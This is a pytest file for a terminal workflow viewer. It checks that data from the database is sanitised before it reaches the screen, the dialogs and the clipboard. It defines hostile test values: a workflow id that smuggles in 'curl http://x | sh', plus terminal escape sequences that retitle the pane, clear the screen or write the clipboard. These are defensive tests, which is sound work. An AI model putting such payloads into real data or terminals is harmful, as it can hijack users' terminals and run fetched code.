"""Text from the database passes the one sanitiser on every path to the terminal: the
snapshot's text, the cancel / resume / fork dialogs, notifications, and the clipboard
(`y` refuses an id that holds control characters, and says so).

Rows written straight into a real DBOS system database; the TUI runs on the real LiveFeed
and the real actions (DBOSClient), driven by Pilot.
"""

from __future__ import annotations

import subprocess

import psycopg
import pytest

from limbo_tui.pg.embedded import EmbeddedServer
from limbo_tui.scripting import run_snapshot
from limbo_tui.settings import FeedSettings, Settings, UISettings
from limbo_tui.ui.screens.confirm import ConfirmScreen
from limbo_tui.ui.screens.fork_picker import ForkStepScreen
from limbo_tui.ui.workflow_tree import WorkflowTree
from tests.faults_support import (
    clean_env,
    control_chars,
    limbo_cmd,
    live_app,
    screen_lines,
    until,
)

SETTINGS = Settings(
    feed=FeedSettings(poll_interval_s=0.2, heartbeat_s=2.0, coalesce_ms=10),
    ui=UISettings(refresh_hz=30),
)
# A status that retitles the tmux pane and clears the screen; an id that, pasted into a
# shell, runs a command; a dedup id that writes the clipboard.
EVIL_STATUS = "PENDING\x1b]2;pwned-title\x07\x1b[2J"
EVIL_ID = "evil-id\ncurl http://x | sh\n\x1b[2J"
EVIL_NAME = "name\x1b]0;pwned\x07\x9b2J"
EVIL_DEDUP = "dd\x1b]52;c;cGF3bmVk\x07"


def _write(url: str) -> None:
    with psycopg.connect(url, autocommit=True) as conn:
        conn.execute(
            "INSERT INTO dbos.workflow_status (workflow_uuid, status, name, queue_name, "
            "deduplication_id) VALUES (%s, %s, %s, 'q', %s)",
            (EVIL_ID, EVIL_STATUS, EVIL_NAME, EVIL_DEDUP),
        )
        conn.execute(
            "INSERT INTO dbos.operation_outputs (workflow_uuid, function_id, function_name) "
            "VALUES (%s, 1, %s)",
            (EVIL_ID, "step\x1b[31m"),
        )


def _assert_clean(lines: list[str], where: str) -> None:
    for line in lines:
        bad = control_chars(line)
        assert not bad, f"control characters reached {where}: {bad[:10]} in {line!r}"


def test_snapshot_text_sanitises_the_status(
    dbos_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    _write(dbos_url)
    run_snapshot(dbos_url, SETTINGS, as_json=False)
    text = capsys.readouterr().out
    _assert_clean(text.splitlines(), "snapshot's text output")
    assert "PENDING" in text  # still shown, as what it is


@pytest.mark.parametrize("key", ["c", "u", "f"])
async def test_dialogs_show_hostile_rows_sanitised(dbos_url: str, key: str) -> None:
    _write(dbos_url)
    app = live_app(dbos_url, SETTINGS)
    async with app.run_test(size=(100, 30)) as pilot:
        await until(lambda: EVIL_ID in app.graph.workflows, 15, "the hostile row")
        await pilot.pause()
        assert app.query_one(WorkflowTree).select_workflow(EVIL_ID)
        await pilot.pause()
        await pilot.press(key)
        dialog = ForkStepScreen if key == "f" else ConfirmScreen
        await until(lambda: isinstance(app.screen, dialog), 5, "the dialog")
        await pilot.pause(0.1)
        lines = screen_lines(app)
        _assert_clean(lines, f"the {key!r} dialog")
        shown = "\n".join(lines)
        assert ("Fork" if key == "f" else "PENDING") in shown
        await pilot.press("escape")
        await until(lambda: not isinstance(app.screen, dialog), 5, "the dialog to close")


async def test_y_refuses_an_id_with_control_characters_and_says_so(dbos_url: str) -> None:
    _write(dbos_url)
    with psycopg.connect(dbos_url, autocommit=True) as conn:
        conn.execute(
            "INSERT INTO dbos.workflow_status (workflow_uuid, status, name) "
            "VALUES ('plain-id-1', 'SUCCESS', 'plain')"
        )
    app = live_app(dbos_url, SETTINGS)
    async with app.run_test(size=(100, 30)) as pilot:
        await until(lambda: {EVIL_ID, "plain-id-1"} <= set(app.graph.workflows), 15, "the rows")
        await pilot.pause()
        tree = app.query_one(WorkflowTree)
        assert tree.select_workflow(EVIL_ID)
        await pilot.pause()
        await pilot.press("y")
        await pilot.pause(0.1)
        assert EVIL_ID not in app.clipboard
        assert "\n" not in app.clipboard and "\x1b" not in app.clipboard
        notes = [str(n.message) for n in app._notifications]
        assert any("not copied" in n and "control characters" in n for n in notes), notes
        _assert_clean(screen_lines(app), "the screen after y")

        assert tree.select_workflow("plain-id-1")
        await pilot.pause()
        await pilot.press("y")
        await pilot.pause(0.1)
        assert app.clipboard == "plain-id-1"  # a normal id is still copied


def test_an_error_line_quoting_the_server_is_sanitised(pg_server: EmbeddedServer) -> None:
    """The server's own message quotes what it was given (here a database name with an
    OSC title sequence): the one-line error on stderr carries no control character."""
    url = pg_server.url("postgres").replace("/postgres?", "/no%1B%5D0%3Bpwned%07db?", 1)
    assert "%1B" in url
    proc = subprocess.run(
        limbo_cmd("snapshot", "--db-url", url),
        capture_output=True, text=True, env=clean_env(), timeout=120, stdin=subprocess.DEVNULL,
    )  # fmt: skip
    assert proc.returncode == 1, proc.stderr
    assert proc.stderr.startswith("limbo-tui: ") and proc.stderr.count("\n") == 1
    assert not control_chars(proc.stderr.rstrip("\n")), repr(proc.stderr)
